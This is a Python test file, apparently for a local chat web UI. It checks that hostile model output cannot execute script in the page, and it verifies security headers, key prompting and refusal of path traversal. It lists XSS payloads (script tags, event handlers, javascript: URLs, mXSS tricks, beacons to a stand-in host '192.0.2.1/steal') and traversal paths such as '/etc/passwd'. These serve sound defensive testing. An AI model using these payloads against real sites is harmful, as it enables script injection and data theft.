"""The page against models, messages and addresses that mean harm, and behind a key."""

import http.client
import json
from pathlib import Path

import pytest

from edge_gemma.server import pages
from edge_gemma.server.guard import Rules
from tests.server.browser import Tab
from tests.server.serving import Served, serving
from tests.server.test_page import DONE, SAID, say, streamed

HOSTILE = [
    "<script>window.owned = 1</script>",
    "<img src=x onerror='window.owned = 1'>",
    "<svg onload=window.owned=1><animate onbegin=window.owned=1 attributeName=x dur=1s>",
    "[click](javascript:window.owned=1) [two](JaVaScRiPt&colon;window.owned=1) <javascript:window.owned=1>",
    "[d](data:text/html,<script>opener.owned=1</script>) [v](vbscript:x) [f](file:///etc/passwd) [r](/v1/models)",
    "![x](http://192.0.2.1/steal?q=1) ![](x 'onerror=window.owned=1') ![\"><script>window.owned=1</script>](y)",
    "<style>body { display: none } </style><link rel=stylesheet href=http://192.0.2.1/x.css>",
    "<p style='position:fixed;inset:0' class=error id=send>hidden</p>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe><object data=x><embed src=x>",
    "<form action=http://192.0.2.1/><input name=key><button formaction=javascript:window.owned=1>go</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.owned=1&gt;'>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'><base href=http://192.0.2.1/>",
    "```html\n<script>window.owned = 1</script>\n```\n\n`<img src=x onerror=window.owned=1>`",
    "<a href='https://ok.example' onclick='window.owned=1' target=_self ping=http://192.0.2.1/>kept</a>",
    "[good](https://ok.example 'title') and https://ok.example/auto and <b>bold</b> &lt;i&gt;",
]
TAGS = "script, style, link, iframe, object, embed, form, input, img, svg, math, meta, base"
HANDLERS = """[...document.querySelectorAll('article *')].flatMap(e => [...e.attributes])
    .filter(a => /^on|^style$|^id$|^srcdoc$|^ping$/.test(a.name)).map(a => a.name)"""


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_answer_does_nothing(tab: Tab, served: Served, text: str) -> None:
    tab.open(f"{served.url}/")
    call = {"index": 0, "function": {"name": text, "arguments": text}}
    tab.answer(
        "/chat/completions", lambda _: streamed({"reasoning_content": text}, {"tool_calls": [call]}, {"content": text})
    )
    say(tab, text)
    tab.run(
        "for (const link of document.querySelectorAll('article a')) link.dispatchEvent(new MouseEvent('mouseover'))"
    )
    assert tab.run("window.owned") is None
    assert tab.run(f"document.querySelectorAll('article :is({TAGS})').length") == 0
    assert tab.run(HANDLERS) == []
    for href, target, rel in tab.run(
        "[...document.querySelectorAll('article a')].map(a => [a.getAttribute('href'), a.target, a.rel])"
    ):
        assert href is None or (href.startswith(("http://", "https://")), target, rel) == (
            True, "_blank", "noopener noreferrer",
        )  # fmt: skip
    tab.open(f"{served.url}/")  # what was kept is drawn as carefully
    assert tab.run(SAID)[0] == text.strip()
    assert tab.run("window.owned") is None


def test_what_is_shown_of_hostile_text_is_the_text(tab: Tab, served: Served) -> None:
    tab.open(f"{served.url}/")
    tab.answer("/chat/completions", lambda _: streamed({"content": "<b>x</b> ![cat](https://ok.example/cat.png)"}))
    say(tab, "Hello")
    assert tab.run("document.querySelector('.prose').textContent.trim()") == "<b>x</b> cat"
    assert tab.run("document.querySelector('.prose a').href") == "https://ok.example/cat.png"


def test_the_policy_holds_without_the_sanitiser(tab: Tab, served: Served) -> None:
    """Were the page to insert text as HTML, the browser would refuse."""
    tab.open(f"{served.url}/")
    with pytest.raises(AssertionError, match="TrustedHTML"):
        tab.run("document.body.innerHTML = '<img src=x onerror=window.owned=1>'")
    tab.run("document.body.append(Object.assign(document.createElement('img'), {src: 'http://192.0.2.1/x.png'}))")
    tab.wait("violations.length == 2")
    assert tab.run("violations") == ["require-trusted-types-for trusted-types-sink", "img-src http://192.0.2.1/x.png"]
    tab.run("violations.length = 0")
    tab.requests[:] = [url for url in tab.requests if "192.0.2.1" not in url]


def test_the_key_is_asked_for_once(tab: Tab) -> None:
    with serving(rules=Rules("open sesame")) as served:
        tab.send("Page.navigate", url=f"{served.url}/")
        for key, title in (("wrong", "This server needs its key"), ("open sesame", "That is not the server's key")):
            tab.wait(f"document.querySelector('#door-title')?.textContent === {json.dumps(title)} && door.open")
            tab.type(key)
            tab.press("Enter")
        tab.wait("document.querySelector('#model option')")
        say(tab, "Hello")
        assert tab.run("document.querySelector('.prose').textContent")
        tab.open(f"{served.url}/")
        assert tab.run("door.open") is False
        tab.run("localStorage.removeItem('edge_gemma.key')")
        tab.run("document.querySelector('#box').focus()")
        tab.type("Again")
        tab.press("Enter")
        tab.wait("door.open")
        tab.press("Escape")
        tab.wait(DONE)
        assert tab.run("document.querySelector('.error:not([hidden])').textContent") == "The server needs its key."


def get(served: Served, path: str, **headers: str) -> http.client.HTTPResponse:
    connection = http.client.HTTPConnection("127.0.0.1", served.port, timeout=10)
    connection.request("GET", path, headers=headers)
    response = connection.getresponse()
    response.body = response.read()  # type: ignore[attr-defined]
    connection.close()
    return response


def test_the_files_and_their_headers(served: Served) -> None:
    folder = Path(pages.__file__).with_name("page")
    for path in ("/", *(f"/page/{file.relative_to(folder)}" for file in folder.rglob("*") if file.is_file())):
        answer = get(served, path, Accept="text/html,*/*")
        assert answer.status == 200
        policy = answer.headers["content-security-policy"]
        assert policy.startswith("default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'")
        assert "unsafe" not in policy
        assert "frame-ancestors 'none'" in policy
        assert answer.headers["referrer-policy"] == "no-referrer"
        assert answer.headers.get_all("x-content-type-options") == ["nosniff"]
        assert "octet-stream" not in answer.headers["content-type"], path
        again = get(served, path, Accept="text/html", **{"If-None-Match": answer.headers["etag"]})
        assert (again.status, again.body) == (304, b"")  # type: ignore[attr-defined]


def test_a_program_does_not_get_the_page(served: Served) -> None:
    assert b"<html" not in get(served, "/", Accept="*/*").body  # type: ignore[attr-defined]
    assert b"<html" in get(served, "/", Accept="text/html").body  # type: ignore[attr-defined]


PATHS = ["", "nothing", "../pages.py", "%2e%2e/pages.py", "/etc/passwd", "..%2fpages.py", "vendor", "index.html/"]


@pytest.mark.parametrize("path", [f"/page/{path}" for path in PATHS])
def test_no_other_file_is_given(served: Served, path: str) -> None:
    assert get(served, path).status == 404


def test_the_script_is_of_a_size_that_can_be_read() -> None:
    folder = Path(pages.__file__).with_name("page")
    lines = {path.name: len(path.read_text().splitlines()) for path in folder.glob("*.js")}
    assert max(lines.values()) <= 500
    assert sum(lines.values()) <= 650
    for path in [*folder.glob("*.html"), *folder.glob("*.svg")]:
        assert "style=" not in path.read_text()
        assert not [word for word in path.read_text().split() if word.startswith("on") and "=" in word]
